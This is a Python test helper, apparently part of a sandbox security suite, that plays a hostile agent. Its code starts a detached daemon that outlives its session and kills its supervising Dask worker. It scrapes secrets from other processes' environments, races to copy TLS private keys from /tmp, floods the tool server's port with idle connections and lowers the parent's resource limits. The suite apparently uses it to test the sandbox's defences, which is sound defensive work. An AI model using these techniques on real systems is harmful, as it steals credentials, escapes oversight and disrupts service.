"""A command agent for round 17's outside attack (tests/test_attack55_*.py).

    python tests/attack55_agent.py

Standard library only. What it tries comes from its environment:

    ATTACK55_RESPAWN  FOLDER,NAME: unless FOLDER/armed is there (it makes it first, so
                      only one run of the experiment tries), it leaves a daemon (a double
                      fork and `setsid`: at `process` it outlives its run) that kills the
                      agent's parent (a Dask worker) with SIGKILL, and then for up to 15 s
                      reads $NAME in /proc/<pid>/environ of every process of its own uid
                      it can read, and copies each dask.crt and dask.pem that appears in a
                      folder of /tmp (distributed wrote a TLS context's certificate and key
                      there as it built one); it writes FOLDER/found.json:
                      `{"parent": CMDLINE, "environ": [...], "where": [CMDLINE...],
                      "tls": bool}`, each value found reversed (never the secret itself),
                      "where" the processes it was found in, "tls" whether it read a
                      private key in the clear.
                      The agent prints {}.
    ATTACK55_WATCH    FOLDER,NAME,SECONDS: the same daemon without the kill, for up to
                      SECONDS: it ends as soon as it read $NAME in a new process of its uid.
    ATTACK55_HOLD     FOLDER,SECONDS,MOST: the first run (FOLDER/armed) opens connections
                      to the port of PASSHAT_MCP_URL, sending nothing, until one is refused
                      or it has MOST, writes FOLDER/holding and holds them until another run
                      made FOLDER/asked, or SECONDS: prints `{"held": N}`. Every other run
                      waits (up to 60 s) for FOLDER/holding, then asks its tools for their
                      list (MCP over HTTP, with its token), then makes FOLDER/asked: it
                      prints `{"tools": N}`, or, when the request fails, says why on stderr
                      and exits 1, as an agent whose tools are gone would.
    ATTACK55_PRLIMIT  FOLDER,LIMIT[,NAME[,soft]]: the first run (FOLDER/armed) sets its
                      parent's (passhat's, at `process`) limit RLIMIT_NAME (default NOFILE),
                      soft and hard (with `soft`: the soft one alone), to LIMIT (prlimit(2):
                      allowed to a process of the same uid, not dumpable or not), and
                      prints `{"prlimit": "ok"}` or the error's name. Others print {}.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import signal
import socket
import struct
import sys
import time
import urllib.parse
import urllib.request

IN_CREATE = 0x100
IN_NONBLOCK = 0o4000


def first(folder: str) -> bool:
    """Whether this run is the experiment's first to get here (FOLDER/armed made now)."""
    try:
        os.close(os.open(os.path.join(folder, "armed"), os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except FileExistsError:
        return False
    return True


def environ_value(pid: str, name: str) -> str | None:
    """$NAME in the environment block `pid` started with, if this uid may read it."""
    try:
        with open(f"/proc/{pid}/environ", "rb") as file:
            block = file.read()
    except OSError:
        return None
    for entry in block.split(b"\0"):
        if entry.startswith(name.encode() + b"="):
            return entry.split(b"=", 1)[1].decode(errors="replace")
    return None


def mine() -> list[str]:
    """The pids of this uid's processes."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            with contextlib.suppress(OSError):
                if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                    found.append(pid)
    return found


def grab(folder: str) -> dict[str, str]:
    """dask.crt and dask.pem of a folder distributed just made, read as soon as they are
    there (opened before they are removed: the open file outlives the name)."""
    got: dict[str, str] = {}
    opened = {}
    deadline = time.monotonic() + 0.5
    while len(opened) < 2 and time.monotonic() < deadline:
        for name in ("dask.crt", "dask.pem"):
            if name not in opened:
                with contextlib.suppress(OSError):
                    opened[name] = open(os.path.join(folder, name), encoding="ascii")  # noqa: SIM115
        if not os.path.isdir(folder) and not opened:
            break
    ends = {"dask.crt": "END CERTIFICATE", "dask.pem": "END PRIVATE KEY"}
    for name, file in opened.items():
        text = ""
        for _ in range(1000):  # until its writer closed it
            text += file.read()
            if ends[name] in text:
                break
            time.sleep(0.001)
        got[name] = text
        file.close()
    return got


def watch(folder: str, name: str, seconds: float, kill: int | None) -> None:
    """The daemon: kill `kill` (when given), then look for $NAME and a certificate."""
    said: dict[str, object] = {"environ": [], "tls": False}
    with open(os.path.join(folder, "pid"), "w", encoding="ascii") as file:
        file.write(str(os.getpid()))  # for the test to end it, should it outlive the test
    with contextlib.suppress(OSError), open(f"/proc/{kill}/cmdline", "rb") as file:
        said["parent"] = file.read().replace(b"\0", b" ").decode(errors="replace")[:200]
    libc = ctypes.CDLL(None, use_errno=True)
    watcher = libc.inotify_init1(IN_NONBLOCK)
    libc.inotify_add_watch(watcher, b"/tmp", IN_CREATE)
    before = set(mine())
    if kill is not None:
        with contextlib.suppress(OSError):
            os.kill(kill, signal.SIGKILL)
    found: set[str] = set()
    where: set[str] = set()
    tls: dict[str, str] = {}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not (tls and found) and not (found and kill is None):
        with contextlib.suppress(BlockingIOError):
            events = os.read(watcher, 65536)
            while events:
                _, _, _, size = struct.unpack("iIII", events[:16])
                made = events[16 : 16 + size].rstrip(b"\0").decode()
                events = events[16 + size :]
                if made.startswith("tmp") and not tls:
                    got = grab(os.path.join("/tmp", made))
                    if "END PRIVATE KEY" in got.get("dask.pem", ""):
                        tls = got
        for pid in set(mine()) - before:
            value = environ_value(pid, name)
            if value:
                found.add(value[::-1])
                with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
                    where.add(file.read()[:120].replace(b"\0", b" ").decode(errors="replace"))
        time.sleep(0.0005)
    said["environ"] = sorted(found)
    said["where"] = sorted(where)
    said["tls"] = bool(tls)
    # written whole, then named: the test reads found.json as soon as it is there
    with open(os.path.join(folder, "found.part"), "w", encoding="utf-8") as file:
        json.dump(said, file)
    os.replace(os.path.join(folder, "found.part"), os.path.join(folder, "found.json"))


def daemon(folder: str, name: str, seconds: float, kill: int | None) -> None:
    """`watch` in a double-forked child of a session of its own (this returns at once)."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            try:
                watch(folder, name, seconds, kill)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
    deadline = time.monotonic() + 10  # its pid written before this run ends (and is swept)
    while not os.path.exists(os.path.join(folder, "pid")) and time.monotonic() < deadline:
        time.sleep(0.01)


def hold(folder: str, seconds: float, most: int) -> int:
    """Idle connections to the run's MCP port, opened until one fails or `most` are,
    held until the other run asked for its tools (FOLDER/asked), or `seconds`."""
    url = urllib.parse.urlsplit(os.environ["PASSHAT_MCP_URL"])
    held = []
    with contextlib.suppress(OSError):
        while len(held) < most:
            held.append(socket.create_connection((url.hostname, url.port), timeout=5))
    with open(os.path.join(folder, "holding"), "w", encoding="ascii") as file:
        file.write(str(len(held)))
    deadline = time.monotonic() + seconds
    while not os.path.exists(os.path.join(folder, "asked")) and time.monotonic() < deadline:
        time.sleep(0.01)
    for sock in held:
        sock.close()
    return len(held)


def tools(folder: str) -> int:
    """The number of the run's tools, asked once the first run holds its connections."""
    deadline = time.monotonic() + 60
    while not os.path.exists(os.path.join(folder, "holding")) and time.monotonic() < deadline:
        time.sleep(0.05)
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}
    request = urllib.request.Request(
        os.environ["PASSHAT_MCP_URL"],
        data=json.dumps(body).encode(),
        headers={
            "Authorization": f"Bearer {os.environ['PASSHAT_MCP_TOKEN']}",
            "Content-Type": "application/json",
            "Accept": "application/json, text/event-stream",
        },
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return len(json.loads(answer.read())["result"]["tools"])
    except (OSError, ValueError) as error:
        sys.exit(f"cannot list my tools: {type(error).__name__}: {error}"[:300])
    finally:
        os.close(os.open(os.path.join(folder, "asked"), os.O_CREAT | os.O_WRONLY))


def lower(limit: int, name: str = "NOFILE", soft: str = "") -> str:
    """The parent's limit RLIMIT_`name` set to `limit` (soft and hard, or the soft one
    alone): "ok", or the error's name."""
    import resource

    which = getattr(resource, f"RLIMIT_{name}")
    try:
        hard = resource.prlimit(os.getppid(), which)[1] if soft else limit
        resource.prlimit(os.getppid(), which, (limit, hard))
    except (OSError, ValueError) as error:
        return type(error).__name__
    return "ok"


def main() -> None:
    if "ATTACK55_PRLIMIT" in os.environ:
        folder, limit, *how = os.environ["ATTACK55_PRLIMIT"].split(",")
        json.dump({"prlimit": lower(int(limit), *how)} if first(folder) else {}, sys.stdout)
        return
    if "ATTACK55_HOLD" in os.environ:
        folder, seconds, most = os.environ["ATTACK55_HOLD"].split(",")
        if first(folder):
            json.dump({"held": hold(folder, float(seconds), int(most))}, sys.stdout)
        else:
            json.dump({"tools": tools(folder)}, sys.stdout)
        return
    if "ATTACK55_RESPAWN" in os.environ:
        folder, name = os.environ["ATTACK55_RESPAWN"].split(",")
        if first(folder):
            daemon(folder, name, 15.0, os.getppid())
    if "ATTACK55_WATCH" in os.environ:
        folder, name, seconds = os.environ["ATTACK55_WATCH"].split(",")
        if first(folder):
            daemon(folder, name, float(seconds), None)
    json.dump({}, sys.stdout)


main()
